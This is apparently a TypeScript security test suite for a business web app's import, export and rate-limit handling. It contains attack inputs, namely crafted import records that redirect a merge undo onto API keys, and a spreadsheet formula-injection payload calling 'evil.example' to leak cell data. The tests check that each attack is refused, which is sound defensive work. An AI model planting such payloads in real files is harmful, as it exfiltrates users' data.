import { Readable } from 'node:stream'
import { sql } from 'kysely'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { buildApp } from '#server/app.ts'
import { searchJobs } from '#server/areas/search/search.jobs.ts'
import { zipOf } from '#server/platform/zip/write.ts'
import { startApp } from '../support/app.ts'
import { buildersFor, type Business } from '../support/builders.ts'
import { readZip } from '../support/zip.ts'
import { exportTools } from './exports.parts.ts'

/** Attacks on what goes in and out of a business as a whole, and on what anybody may ask for. */

const app = await startApp({ own: true })
const builders = buildersFor(app)
const { aBusiness, aPerson, codeOf, call, ok } = builders
const { exportOf, importInto, sendPart, rowsOf, asOwner, at } = exportTools(app, builders)

type File = { readonly name: string; readonly data: Buffer }
async function pack(files: readonly File[]): Promise<Buffer> {
  const open = files.map(({ name, data }) => ({
    name,
    modified: new Date('2026-05-20T18:00:00Z'),
    open: () => Promise.resolve(Readable.from([data])),
  }))
  const pieces: Buffer[] = []
  for await (const piece of zipOf(open)) pieces.push(piece)
  return Buffer.concat(pieces)
}

let files: readonly File[]
beforeAll(async () => {
  const business = await aBusiness('Full')
  const { params } = at(business)
  const { customer } = await ok('createCustomer', { params, body: { name: 'Ann Lee' } }, asOwner(business))
  const other = await ok('createCustomer', { params, body: { name: 'Ann M. Lee' } }, asOwner(business))
  const { project } = await ok(
    'createProject',
    { params, body: { name: 'Deck', customer_id: other.customer.id } },
    asOwner(business),
  )
  await ok('createNote', { params: { ...params, projectId: project.id }, body: { title: 'Rails' } }, asOwner(business))
  await ok(
    'mergeCustomers',
    { params: { ...params, customerId: customer.id }, body: { duplicate_id: other.customer.id } },
    asOwner(business),
  )
  files = readZip(await exportOf(business))
})

/** The file with one of its own changed. */
const changed = (name: string, change: (text: string) => string): Promise<Buffer> =>
  pack(files.map((file) => (file.name === name ? { name, data: Buffer.from(change(file.data.toString())) } : file)))
const eachLine = (text: string, change: (row: Record<string, unknown>) => object): string =>
  text
    .trim()
    .split('\n')
    .map((line) => `${JSON.stringify(change(JSON.parse(line) as Record<string, unknown>))}\n`)
    .join('')

describe('a file that comes in', () => {
  it.each([
    ['a time zone that is none', { time_zone: 'Mars/Olympus' }],
    ['hours of another form', { hours: { monday: 'always' } }],
  ])('with %s is refused: the jobs of all businesses reckon with it', async (_name, patch) => {
    const target = await aBusiness('Target')
    const zip = await changed('records/site.jsonl', (text) => eachLine(text, (row) => ({ ...row, ...patch })))
    expect(await importInto(target, zip)).toMatchObject({ state: 'failed', fault: 'bad_record' })
    expect((await call('getLandingPage', at(target), asOwner(target))).status).toBe(200)
  })

  it('does not grow to more than it may be when its list is read', async () => {
    const target = await aBusiness('Target')
    const zip = await changed('manifest.json', (text) => text.padEnd(17_000_000))
    expect(await importInto(target, zip)).toMatchObject({ state: 'failed', fault: 'too_large' })
  })

  it('does not lead the undoing of a merge to other records', async () => {
    const target = await aBusiness('Target')
    const kept = JSON.parse(
      files
        .find(({ name }) => name === 'records/customer_merges.jsonl')
        ?.data.toString()
        .trim() ?? '{}',
    ) as { id: string; kept_id: string; merged_id: string }
    // the one who was kept has the id of a person, in whose name records are
    const person = target.owner.userId
    const zip = await pack(
      files.map(({ name, data }) =>
        name.endsWith('.jsonl')
          ? { name, data: Buffer.from(data.toString().replaceAll(kept.kept_id, person)) }
          : { name, data },
      ),
    )
    const crafted = await pack(
      readZip(zip).map(({ name, data }) =>
        name === 'records/customer_merges.jsonl'
          ? {
              name,
              data: Buffer.from(
                eachLine(data.toString(), (row) => ({
                  ...row,
                  moved: {
                    ...(row['moved'] as object),
                    rows: [{ table: 'api_keys', column: 'created_by', ids: [target.siteId] }],
                  },
                })),
              ),
            }
          : { name, data },
      ),
    )
    expect(await importInto(target, crafted)).toMatchObject({ state: 'done' })
    await ok('createKey', { ...at(target), body: { name: 'K', access: 'read', areas: ['notes'] } }, asOwner(target))
    await app.workshop.inSystem(({ db }) =>
      db.updateTable('api_keys').set({ id: target.siteId }).where('site_id', '=', target.siteId).execute(),
    )
    const params = { ...at(target).params, mergeId: kept.id }
    expect((await call('undoCustomerMerge', { params, body: {} }, asOwner(target))).status).toBe(200)
    expect(await rowsOf(target, 'api_keys')).toEqual([expect.objectContaining({ created_by: person })])
  })

  it('with a record that cannot be searched keeps nobody else’s from being found', async () => {
    const target = await aBusiness('Target')
    const words = Array.from({ length: 200_000 }, (_, index) => `word${index}`).join(' ')
    const zip = await changed('records/notes.jsonl', (text) => eachLine(text, (row) => ({ ...row, title: words })))
    expect(await importInto(target, zip)).toMatchObject({ state: 'done' })
    const others = await Promise.all(Array.from({ length: 6 }, () => aBusiness('Other')))
    for (const other of others) await ok('createCustomer', { ...at(other), body: { name: 'Findable' } }, asOwner(other))
    const [file] = searchJobs({
      workshop: app.workshop,
      clock: app.clock,
      embedder: null,
      model: app.parts.assistant.model,
    })
    await file?.run({}).catch(() => undefined)
    for (const other of others) expect(await rowsOf(other, 'search_due')).toEqual([])
  })

  it('gets no part from product staff who act as the owner', async () => {
    const target = await aBusiness('Target')
    const staff = await aPerson()
    await app.database.pool.query('update users set is_support = true where id = $1', [staff.userId])
    await ok('beginSupport', { body: { user_id: target.owner.userId, reason: 'A test' } }, { token: staff.token })
    const body = { file_name: 'a.zip', bytes: 10 }
    const { import: begun } = await ok('createImport', { ...at(target), body }, asOwner(target))
    const answer = await app.http.inject({
      method: 'PATCH',
      url: `/api/landing-pages/${target.slug}/imports/${begun.id}/parts/0`,
      headers: {
        authorization: `Bearer ${staff.token}`,
        'as-user-id': target.owner.userId,
        'content-type': 'application/octet-stream',
      },
      payload: Buffer.alloc(10),
    })
    expect(answer.json()).toMatchObject({ code: 'forbidden' })
    expect((await sendPart(target, begun.id, 0, Buffer.alloc(10))).statusCode).toBe(200)
  })
})

describe('a spreadsheet', () => {
  const formula = '=HYPERLINK("https://evil.example?"&A1)\nsecond line'

  it('takes nothing of several lines for a formula, of the records and of the log', async () => {
    const business = await aBusiness()
    const { params } = at(business)
    const { project } = await ok('createProject', { params, body: { name: 'Deck' } }, asOwner(business))
    const note = { params: { ...params, projectId: project.id }, body: { title: 'N', body: formula } }
    await ok('createNote', note, asOwner(business))
    await app.workshop.inSystem(({ db }) =>
      sql`update audit_log set told_name = ${formula}, user_id = null where site_id = ${business.siteId}`.execute(db),
    )
    const packed = readZip(await exportOf(business))
    const csv = packed.find(({ name }) => name === 'csv/notes.csv')?.data.toString() ?? ''
    expect(csv).toContain(`"'=HYPERLINK`)
    const { url } = await ok('createAuditFile', { ...at(business), body: {} }, asOwner(business))
    const log = (await app.http.inject({ url })).body
    expect(log).toContain(`"'=HYPERLINK`)
    expect(`${csv}${log}`).not.toMatch(/,"=HYPERLINK/)
  })
})

describe('many at once', () => {
  it('make no more keys than there may be, nor two of one name', async () => {
    const business = await aBusiness()
    const make = (name: string) =>
      call('createKey', { ...at(business), body: { name, access: 'read', areas: ['notes'] } }, asOwner(business))
    const same = await Promise.all(Array.from({ length: 8 }, () => make('One')))
    expect(same.filter(({ status }) => status === 201)).toHaveLength(1)
    await Promise.all(Array.from({ length: 60 }, (_, index) => make(`Key ${index}`)))
    expect(await rowsOf(business, 'api_keys')).toHaveLength(50)
  })

  it('add no more addresses than there may be', async () => {
    const business = await aBusiness()
    const body = { url: 'https://hooks.example.com/in', events: ['request.created'] }
    await Promise.all(
      Array.from({ length: 30 }, () => call('createWebhook', { ...at(business), body }, asOwner(business))),
    )
    const webhooks = await rowsOf(business, 'webhooks')
    expect(webhooks).toHaveLength(20)
    const [first] = webhooks
    const params = { ...at(business).params, webhookId: String(first?.['id']) }
    await ok('updateWebhook', { params, body: { archived: true } }, asOwner(business))
    await ok('createWebhook', { ...at(business), body }, asOwner(business))
    expect(await codeOf('updateWebhook', { params, body: { archived: null } }, asOwner(business))).toBe('conflict')
  })
})

describe('what anybody may ask for', async () => {
  // a twentieth of the usual
  const few = await buildApp({ parts: app.parts, logging: false, limitScale: 0.05 })
  afterAll(() => few.close())

  it('codes are drawn at the pace that people need them', async () => {
    const business: Business = await aBusiness()
    const ask = (source: string) =>
      few.inject({ url: `/api/qr?slug=${business.slug}&source=${source}&size=120`, remoteAddress: '198.51.100.9' })
    for (const source of ['a', 'b', 'c']) expect((await ask(source)).statusCode).toBe(200)
    expect((await ask('d')).json()).toMatchObject({ code: 'too_many' })
  })

  it('monitoring holds few bodies at the same time, and takes the next when they are gone', async () => {
    const send = () =>
      app.http.inject({
        method: 'POST',
        url: '/monitoring',
        headers: { 'content-type': 'application/x-sentry-envelope' },
        payload: '{}',
      })
    const together = (await Promise.all(Array.from({ length: 60 }, send))).map(({ statusCode }) => statusCode)
    expect(new Set(together)).toEqual(new Set([404, 429]))
    for (let count = 0; count < 25; count += 1) expect((await send()).statusCode).toBe(404)
  })
})
